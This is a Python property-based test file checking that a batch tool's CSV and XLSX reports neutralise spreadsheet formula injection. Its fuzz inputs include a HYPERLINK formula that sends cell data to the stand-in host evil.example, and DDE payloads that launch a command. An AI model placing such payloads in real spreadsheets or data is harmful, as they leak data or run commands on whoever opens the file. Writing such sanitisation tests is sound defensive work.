"""Reports that are safe to open: whatever text the input file or the API put into a report,
no cell of ``results.csv`` starts with ``=``, ``+``, ``-``, ``@``, tab or CR unless
neutralised with a leading apostrophe, every text in ``results.xlsx`` is a string cell holding
the text exactly (a string cell is never evaluated), no XLSX cell is a formula, and the text is
otherwise kept.

The files are read back as a user's spreadsheet would get them: the CSV with the ``csv``
module, the XLSX with openpyxl, decoding OOXML's ``_xHHHH_`` escape as Excel does.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from pcxbatch.model import Outcome, ReportLine
from pcxbatch.report import RESULT_COLUMNS, report_headers, write_results

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
_EXCEL_ESCAPE = re.compile("_x([0-9A-Fa-f]{4})_")
# xlsxwriter escapes two _xHHHH_ sequences that share an underscore in a way Excel reads back
# differently (see test_report.py); no real text looks like that.
_OVERLAPPING_ESCAPES = re.compile("_x[0-9A-Fa-f]{4}(?=_x[0-9A-Fa-f]{4}_)")
TEXT_FIELDS = ("user_id", "action", "target_status", "message", "request_id")

# Texts a hostile cell or an API error page might hold: formula starts, injection payloads,
# separators, quotes, line breaks, control characters, anything Unicode.
HOSTILE = st.one_of(
    st.text(max_size=40),
    st.tuples(
        st.sampled_from([*DANGEROUS, "'", " ", "\n", "\u3000", ""]), st.text(max_size=30)
    ).map("".join),
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "\t=1+1",
            "\r=1+1",
            '"=1+1"',
            "=1+1,=2+2\n=3+3",
            "_x0041_",
            "",
        ]
    ),
)
SETTINGS = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def cleaned(text: str) -> str:
    """A lone surrogate (which no UTF-8 file can hold) becomes U+FFFD."""
    return re.sub("[\ud800-\udfff]", "\ufffd", text)


def expected(text: str) -> str:
    """The documented CSV rule: a dangerous first character gets a leading apostrophe; nothing
    else changes but :func:`cleaned`."""
    kept = cleaned(text)
    return "'" + kept if kept.startswith(DANGEROUS) else kept


def excel_text(value: object) -> object:
    if isinstance(value, str):
        return _EXCEL_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), value)
    return value


def assert_safe(cell: object) -> None:
    if isinstance(cell, str):
        assert not cell.startswith(DANGEROUS), repr(cell)


@SETTINGS
@given(
    fields=st.fixed_dictionaries({name: HOSTILE for name in TEXT_FIELDS}),
    columns=st.lists(HOSTILE, min_size=1, max_size=4),
    values=st.lists(HOSTILE, min_size=4, max_size=4),
)
def test_fuzzed_text_is_neutralised_and_otherwise_kept(
    tmp_path_factory: pytest.TempPathFactory,
    fields: dict[str, str],
    columns: list[str],
    values: list[str],
) -> None:
    everything = "\0".join([*fields.values(), *columns, *values])
    assume(not _OVERLAPPING_ESCAPES.search(everything))
    values = values[: len(columns)]
    line = ReportLine(
        row=2,
        outcome=Outcome.FAILED,
        http_status=400,
        attempts=1,
        values=tuple(values),
        **fields,
    )
    run_dir = tmp_path_factory.mktemp("run")
    csv_path, xlsx_path = write_results(run_dir, columns, [line], xlsx=True)
    headers = report_headers(columns)
    want_header = [expected(h) for h in headers]
    want_row = [
        "2",
        *(expected(fields[name]) for name in ("user_id", "action", "target_status")),
        "failed",
        "400",
        "1",
        expected(fields["message"]),
        expected(fields["request_id"]),
        *(expected(v) for v in values),
    ]

    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        csv_rows = list(csv.reader(fh))
    assert csv_rows == [want_header, want_row]
    for cell in csv_rows[0] + csv_rows[1]:
        assert_safe(cell)

    book = openpyxl.load_workbook(xlsx_path)  # not read-only: formula cells show as such
    sheet = book.worksheets[0]
    for cells in sheet.iter_rows():
        for cell in cells:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula"
            if isinstance(cell.value, str):
                assert cell.data_type == "s", f"{cell.coordinate} is not a string cell"
    xlsx_rows = [[excel_text(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    book.close()
    assert xlsx_rows[0] == [cleaned(h) for h in headers]
    raw_row = [
        *(fields[name] for name in ("user_id", "action", "target_status")),
        "failed",
        fields["message"],
        fields["request_id"],
        *values,
    ]
    texts = iter(cleaned(t) or None for t in raw_row)
    numbers = {0: 2, 5: 400, 6: 1}
    assert xlsx_rows[1] == [
        numbers[i] if i in numbers else next(texts) for i in range(len(want_row))
    ]


@pytest.mark.parametrize("prefix", DANGEROUS)
def test_each_dangerous_start_is_neutralised_in_every_column(tmp_path: Path, prefix: str) -> None:
    payload = prefix + "SUM(1,1)"
    line = ReportLine(
        row=2,
        user_id=payload,
        action=payload,
        target_status=payload,
        outcome=Outcome.INVALID,
        http_status=None,
        attempts=0,
        message=payload,
        request_id=payload,
        values=(payload,),
    )
    csv_path, xlsx_path = write_results(tmp_path, [payload], [line], xlsx=True)
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        header, row = list(csv.reader(fh))
    assert header[len(RESULT_COLUMNS)] == "'" + payload
    text_cells = [c for i, c in enumerate(row) if i not in (0, 4, 5, 6)]
    assert text_cells == ["'" + payload] * len(text_cells)
    book = openpyxl.load_workbook(xlsx_path)
    for cells in book.worksheets[0].iter_rows():
        for cell in cells:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and not cell.value.startswith("'")
    book.close()
